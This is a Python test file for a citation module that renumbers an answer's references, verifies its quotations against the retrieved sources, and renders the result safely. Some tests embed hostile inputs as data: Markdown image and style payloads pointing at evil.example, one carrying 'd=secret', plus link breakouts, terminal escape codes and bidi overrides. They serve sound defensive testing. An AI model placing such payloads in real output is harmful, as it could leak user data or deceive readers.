"""An answer is printed with our own numbers, and says of each quotation what became of it."""

import json
import re
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from citations import (
    Evidence,
    KnowledgeCitation,
    Seen,
    SourceKind,
    cite_answer,
    document_id,
    revision_id,
)

WHEN = datetime(2026, 3, 1, 12, tzinfo=UTC)
URL = "https://docs.example/guide"
OTHER = "https://other.example/"
PAGE = "The open function must be closed after use. It is not safe to share handles."
HIDDEN = "\u202e\x1b]0;title\x07<img src=x>](https://evil.example/) *bold*"


def seen(url: str, text: str, kind: SourceKind = SourceKind.PAGE) -> Seen:
    citation = KnowledgeCitation(
        source_id=url.partition("://")[2].partition("/")[0],
        document_id=document_id(url),
        path=url,
        revision_id=revision_id(text),
        retrieved_at=WHEN,
    )
    return Seen(citation=citation, kind=kind)


SNIPPET = f"{HIDDEN}\nsnippet"
EVIDENCE = Evidence(
    seen=[seen(OTHER, "Other."), seen(URL, PAGE), seen(URL, SNIPPET, SourceKind.SNIPPET)],
    texts={revision_id(text): text for text in ("Other.", PAGE, SNIPPET)},
)
ANSWER = (
    "It says “The open function must be closed after use” [7], and “it is quite safe to share the "
    "handles” [7]. See also [3].\n\n> It is not safe to share handles.\n\n— " + URL + "\n\n"
    f"[3] {OTHER}\n[7] {URL}\n"
)


def test_our_numbers_take_the_place_of_the_answers_own() -> None:
    """By first use, and its list of references is gone."""
    cited = cite_answer(ANSWER, EVIDENCE)

    assert "after use” [1], and" in cited.body
    assert "handles” [NOT FOUND] [1]. See also [2]." in cited.body
    assert "share handles. [1]\n" in cited.body
    assert "[7]" not in cited.body
    assert [reference.citation.path for reference in cited.references] == [URL, OTHER]
    assert [len(reference.quotes) for reference in cited.references] == [2, 0]
    assert not cited.ok
    assert "2 of 3 quotations verified" in cited.to_text()


def test_a_source_that_was_not_read_is_named() -> None:
    """Also when nothing is quoted from it; then the answer is not verified."""
    true = f"“The open function must be closed after use” {URL}"

    assert cite_answer(true, EVIDENCE).ok
    cited = cite_answer(
        f"{true} and https://never.example/x [9].\n\n[9] https://no.example/", EVIDENCE
    )
    assert cited.unread == ("https://never.example/x", "https://no.example/")
    assert "[SOURCE NOT READ]" in cited.body
    assert not cited.ok


def test_references_link_to_the_words() -> None:
    """A text fragment, in which a hyphen, a comma and an ampersand are escaped."""
    page = "It is well-known, tested & safe in every way."
    evidence = Evidence.of_texts({seen(URL, page).citation: page})

    (reference,) = cite_answer("“well-known, tested & safe in every way”", evidence).references

    words = "well%2Dknown%2C%20tested%20%26%20safe%20in%20every%20way"
    assert reference.links == (f"{URL}#:~:text={words}",)


def test_a_long_quotation_is_linked_by_its_ends() -> None:
    """The fragment of a text over lines names its beginning and its end, as they show."""
    page = "# One\n\n**one** two three four five six\n\nseven `eight` nine ten eleven twelve end"
    evidence = Evidence.of_texts({seen(URL, page).citation: page})

    (reference,) = cite_answer("> " + page[7:].replace("\n", "\n> "), evidence).references

    start, end = "one%20two%20three%20four%20five", "nine%20ten%20eleven%20twelve%20end"
    assert reference.links == (f"{URL}#:~:text={start},{end}",)


def test_csl_items_have_the_shape_of_1_0_2() -> None:
    """Type and id are there, the date is in parts, and no key is unknown to the schema."""
    items = cite_answer(ANSWER, EVIDENCE).to_csl()

    known = {"id", "type", "title", "container-title", "URL", "accessed", "note", "custom"}
    assert [item["id"] for item in items] == ["ref-1", "ref-2"]
    for item in items:
        assert set(item) <= known
        assert item["type"] == "webpage"
        assert item["accessed"] == {"date-parts": [[2026, 3, 1]]}


BREAKOUTS = (
    "](https://evil.example/)",
    "![x](https://evil.example/i)",
    "<https://evil.example/>",
    "<img src=//evil.example/>",
    "\n[1]: https://evil.example/",
    "`",
    "\\",
    "\x1b[31m",
    "\x9b1m",
    "\u202e",
    "a",
    "&lt;",
    ">",
    "\ud800",
)
# What a citation takes for an address is all of printable ASCII but the hash sign.
SAFE = "".join(map(chr, range(0x21, 0x7F))).replace("#", "")
# What csl-data.json of 1.0.2 allows of the fields that we write; no others.
CSL_FIELDS: dict[str, type] = {
    "id": str,
    "type": str,
    "title": str,
    "container-title": str,
    "URL": str,
    "note": str,
    "accessed": dict,
    "custom": dict,
}


def cited_under(title: str, url: str) -> Any:
    """An answer that quotes a page of this address, which a search gave this title."""
    snippet = f"{title}\nsnippet"
    evidence = Evidence(
        seen=[seen(url, PAGE), seen(url, snippet, SourceKind.SNIPPET)],
        texts={revision_id(text): text for text in (PAGE, snippet)},
    )
    return cite_answer("It says “The open function must be closed after use”.", evidence)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from(BREAKOUTS), max_size=4).map("".join),
    st.lists(st.sampled_from(BREAKOUTS[:6]), max_size=3).map("".join),
)
def test_hostile_titles_and_addresses_are_text_in_every_format(title: str, path: str) -> None:
    """CSL-JSON by its schema's rules, Markdown with no link of theirs, a terminal left alone."""
    url = f"https://docs.example/{quote(path, safe=SAFE)}"
    cited = cited_under(title, url)
    written = json.dumps(cited.to_csl())

    for item in json.loads(written):
        assert {"type", "id"} <= set(item) <= set(CSL_FIELDS)
        assert all(isinstance(item[name], CSL_FIELDS[name]) for name in item)
        assert item["type"] == "webpage"
        ((year, month, day),) = item["accessed"]["date-parts"]
        assert (year, month, day) == (2026, 3, 1)
        assert item["URL"] == url
    assert written.isascii()
    shown = MarkdownIt("commonmark").render(cited.to_markdown())
    assert re.findall('href="(?!https://docs.example/)', shown) == []
    assert not re.search("<img|<a(?! href)", shown)
    for text in (written, cited.to_text(), cited.to_markdown()):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)


def test_json_has_the_selectors() -> None:
    """Quote and position of each part, in the order of the quotations."""
    body = cite_answer(ANSWER, EVIDENCE).to_json()

    quote, position = body["quotes"][0]["selectors"][0]
    assert quote["exact"] == PAGE[position["start"] : position["end"]]
    assert (quote["type"], position["type"]) == ("TextQuoteSelector", "TextPositionSelector")
    assert [q["verdict"] for q in body["quotes"]] == ["verified", "not-found", "verified"]


def test_a_hostile_title_stays_text_in_markdown() -> None:
    """It closes no link, makes no image and is no HTML."""
    html = MarkdownIt("commonmark").render(cite_answer(ANSWER, EVIDENCE).to_markdown())

    assert "<img" not in html
    assert 'href="https://evil.example/' not in html


@pytest.mark.parametrize(
    "active",
    [
        "![x](https://evil.example/i?d=secret)",
        "<img src=https://evil.example/i>",
        "![x][1]\n\n[1]: https://evil.example/i",
        "![][a]\n\n  [a]: https://evil.example/i",
        "<style>@import 'https://evil.example/i'</style>",
    ],
)
def test_markdown_fetches_nothing_when_it_is_shown(active: str) -> None:
    """An image of the answer is a link at most."""
    html = MarkdownIt("commonmark").render(cite_answer(active, EVIDENCE).to_markdown())

    assert "<img" not in html
    assert "<style" not in html


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from([*ANSWER.split(" "), "“", "”", "> ", "\n", "[1]", "[", "```\n", URL]))
)
def test_citing_is_total(pieces: list[str]) -> None:
    """Every format of any answer; what is verified has a reference."""
    cited = cite_answer(" ".join(pieces), EVIDENCE)

    assert cited.to_text()
    assert cited.to_markdown()
    assert cited.to_json()["ok"] is cited.ok
    numbered = {reference.citation for reference in cited.references}
    assert {quote.citation for quote in cited.verification.verified} <= numbered


@pytest.mark.parametrize(
    "drives", ["\x1b]0;t\x07", "\x1b[31m", "\u202ea", "\x9b", "\x7f", "\u2066", "\0"]
)
def test_no_output_drives_a_terminal(drives: str) -> None:
    """Neither by the answer, nor by an address or a title, nor by what an entity shows."""
    entities = "".join(f"&#{ord(sign)};&#x{ord(sign):x};" for sign in drives)
    answer = f"{ANSWER} {drives} {entities} https://no.example/{drives}\rover\r\n"
    cited = cite_answer(answer, EVIDENCE)

    shown = MarkdownIt().render(cited.to_markdown())
    for text in (cited.to_text(), cited.to_markdown(), shown):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    assert cited.answer == answer


def test_an_entity_that_drives_nothing_stays() -> None:
    """And so do the two control characters of text."""
    cited = cite_answer("a &amp; b &#8364;\n\n\tc &unknown; d", EVIDENCE)

    assert cited.to_markdown().startswith("a &amp; b &#8364;\n\n\tc &unknown; d\n")


def test_a_return_begins_a_line_and_no_definition() -> None:
    """As Markdown counts it."""
    cited = cite_answer("words\r\r[r]: https://evil.example/\r\r[a link][r]", EVIDENCE)

    assert "href" not in MarkdownIt().render(cited.to_markdown().partition("Not read")[0])
